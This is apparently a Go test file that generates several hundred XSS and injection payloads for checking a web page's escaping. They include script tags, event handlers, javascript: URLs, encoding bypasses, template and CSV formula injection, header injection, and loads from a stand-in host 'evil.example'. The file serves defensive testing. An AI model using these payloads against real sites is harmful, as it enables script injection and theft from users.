package web_test

// payloads are texts that would run, load or break something where a page
// forgot to treat them as text: over three hundred, each seed in each setting.
func payloads() []string {
	var list []string
	for _, setting := range [][2]string{{"", ""}, {`">`, ""}, {"'>", "<!--"}, {"</textarea></title></script></style>", ""}} {
		for _, seed := range seeds() {
			list = append(list, setting[0]+seed+setting[1])
		}
	}
	return list
}

func seeds() []string {
	return []string{
		// Elements that run.
		`<script>alert(1)</script>`, `<ScRiPt>alert(1)</sCrIpT>`, `<script src=https://evil.example/x.js></script>`, `<script/x>alert(1)</script>`,
		`<script type=module>import "https://evil.example/m.js"</script>`, "<script\n>alert(1)</script\n>", `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<script>alert(1)//`, "<script\x0c>alert(1)</script>", `<svg><script>alert(1)</script></svg>`, `<svg><script href="data:,alert(1)"/></svg>`,
		`<math><mtext><script>alert(1)</script></mtext></math>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<template><script>alert(1)</script></template>`, `<template shadowrootmode=open><img src=x onerror=alert(1)></template>`,
		// Attributes that run.
		`<img src=x onerror=alert(1)>`, `<img/src=x/onerror=alert(1)>`, "<img\tsrc=x\tonerror=alert(1)>", `<img src=x onerror="alert&#40;1)">`, `<IMG SRC=x OnErRoR=alert(1)>`,
		`<svg onload=alert(1)>`, `<svg/onload=alert(1)>`, `<body onload=alert(1)>`, `<details open ontoggle=alert(1)>`, `<input autofocus onfocus=alert(1)>`,
		`<select autofocus onfocus=alert(1)>`, `<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)>`, `<marquee onstart=alert(1)>`,
		`<p style="animation:x" onanimationstart=alert(1)>`, `<div popover id=x onbeforetoggle=alert(1)>`, `<a href=# onfocus=alert(1) autofocus>`,
		`" autofocus onfocus=alert(1) x="`, `' autofocus onfocus=alert(1) x='`, "` onmouseover=alert(1) `", `" style="background:url(https://evil.example/b)" x="`,
		`<iframe srcdoc="<script>alert(1)</script>">`, `<iframe src=javascript:alert(1)>`, `<object data=javascript:alert(1)>`, `<embed src=https://evil.example/e.svg>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x"/></svg>`,
		`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`, `<form action=javascript:alert(1)><button autofocus>x</button></form>`, `<button formaction=javascript:alert(1)>x</button>`,
		// Addresses.
		`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", "java\nscript:alert(1)", "\x01javascript:alert(1)", ` javascript:alert(1)`, `javascript&colon;alert(1)`,
		`javascript://https://skills.example/%0aalert(1)`, `data:text/html,<script>alert(1)</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `vbscript:msgbox(1)`,
		`//evil.example/x`, `https://evil.example/"onmouseover="alert(1)`, `<a href="javascript:alert(1)">x</a>`, `<base href=https://evil.example/>`,
		`<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<link rel=stylesheet href=https://evil.example/c.css>`, `<link rel=prefetch href=https://evil.example/p>`,
		`<img src=https://evil.example/pixel.png>`, `<picture><source srcset=https://evil.example/s.png><img></picture>`, `<form action=https://evil.example/><input name=csrf>`,
		// Styles.
		`<style>@import "https://evil.example/i.css";</style>`, `<style>*{background:url(https://evil.example/u)}</style>`, `<p style="position:fixed;inset:0">cover</p>`,
		`</style><script>alert(1)</script>`, `expression(alert(1))`, `\3c script\3e alert(1)\3c /script\3e`,
		// Encodings, templates and texts that other parsers read.
		`&lt;script&gt;alert(1)&lt;/script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003ealert(1)\u003c/script\u003e`,
		`＜script＞alert(1)＜/script＞`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, "<\x00script>alert(1)</script>", `{{constructor.constructor('alert(1)')()}}`, `${alert(1)}`, `<%= alert(1) %>`, `#{alert(1)}`,
		`{{.}}{{template "x"}}`, "\u2028alert(1)\u2029", "\u202e<tpircs>alert(1)", "\u200b<\u200bscript>alert(1)</script>", "\ufeff<script>alert(1)</script>", `"};alert(1);//`, `');alert(1);//`,
		`</script><svg/onload=alert(1)>`, `]]><script>alert(1)</script>`, `<![CDATA[<script>alert(1)</script>]]>`, `--><script>alert(1)</script>`, `<!--><script>alert(1)</script>-->`, `<?xml version="1.0"?><x/>`,
		`=cmd|'/c calc'!A1`, `{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}`, "a\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>", `<x data-live=//evil.example data-copy=x data-dialog=x data-confirm=x>`,
	}
}
